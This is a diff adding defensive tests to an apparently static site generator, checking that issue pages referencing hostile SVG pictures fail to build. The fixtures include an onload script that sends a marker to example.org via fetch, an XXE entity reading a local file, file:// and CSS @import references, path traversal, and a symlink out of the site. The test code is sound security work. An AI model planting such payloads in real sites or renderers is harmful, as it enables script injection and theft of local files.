@@ -140,3 +140,58 @@ def test_a_source_linked_from_outside_the_site_is_refused_unread(site, run, outs
                 "link") in result.output.replace(f"{source}:1:1: error:", f"{source}:")
         assert MARKER not in result.output
     assert not (site / "output").exists()
+
+
+SVG = '<svg xmlns="http://www.w3.org/2000/svg" width="40" height="30">\n{}\n</svg>\n'
+SCRIPTED = ('<svg xmlns="http://www.w3.org/2000/svg" width="40" height="30" onload="go()">\n'
+            f'<script>fetch("https://example.org/?{MARKER}")</script>\n'
+            '<rect width="9" height="9"/>\n</svg>\n')
+
+
+def svg_ways_out(site: Path, outside: Path) -> list[str]:
+    """Issues' references to SVG pictures that script, or reach out of the site: each must be
+    refused, naming the issue."""
+    folder = site / "issues/bulletin"
+    climb = os.path.relpath(outside / "secret.png", folder)
+    os.symlink(outside / "secret.png", folder / "linked.png")
+    pictures = {
+        "scripted.svg": SCRIPTED,
+        "disguised.png": SCRIPTED,  # an SVG by its content, under a PNG's name
+        "outer.svg": SVG.format('<image href="scripted.svg" width="9" height="9"/>'),
+        "file.svg": SVG.format(f'<image href="file://{outside}/secret.png"/>'),
+        "climbing.svg": SVG.format(f'<image href="{climb}"/>'),
+        "linking.svg": SVG.format('<image href="linked.png"/>'),
+        "styled.svg": SVG.format(f"<style>@import url(file://{outside}/secret.css);</style>"),
+        "entity.svg": (f'<!DOCTYPE svg [<!ENTITY secret SYSTEM "file://{outside}/secret.txt">]>'
+                       + SVG.format("<text>&secret;</text>")),
+    }
+    for name, text in pictures.items():
+        (folder / name).write_text(text)
+    return [*(f"![A chart]({name})" for name in pictures),
+            '<p><img src="scripted.svg" alt="A chart"></p>',
+            '<p><img src="outer.svg" alt="A chart"></p>']
+
+
+def test_an_svg_that_scripts_or_reaches_out_never_reaches_the_output(site, run, outside):
+    for reference in svg_ways_out(site, outside):
+        write_issue(site, "2024-03-issue-7.md", ISSUE_HEAD + f"\n{reference}\n")
+        result = run("build", cwd=site)
+        assert result.exit_code == 1, reference
+        assert result.stderr.startswith("issues/bulletin/2024-03-issue-7.md"), result.stderr
+        assert "Traceback" not in result.output and "warning" not in result.stderr
+        assert not (site / "output").exists(), reference
+
+
+def test_a_plain_svg_is_copied_as_it_is_and_nothing_else_scripts(site, run, outside):
+    svg_ways_out(site, outside)  # the hostile pictures lie beside it, unused
+    plain = SVG.format('<rect width="9" height="9" fill="#14506e"/>')
+    (site / "issues/bulletin/plain.svg").write_text(plain)
+    write_issue(site, "2024-03-issue-7.md", ISSUE_HEAD + "\n![A plain chart](plain.svg)\n")
+    result = run("build", cwd=site)
+    assert result.exit_code == 0, result.output
+    assert (site / "output/bulletin/plain.svg").read_text() == plain
+    for path in (site / "output").rglob("*"):
+        if path.is_file():
+            data = path.read_bytes()
+            assert b"<script" not in data and b"onload" not in data, path
+            assert MARKER.encode() not in data and str(outside).encode() not in data, path
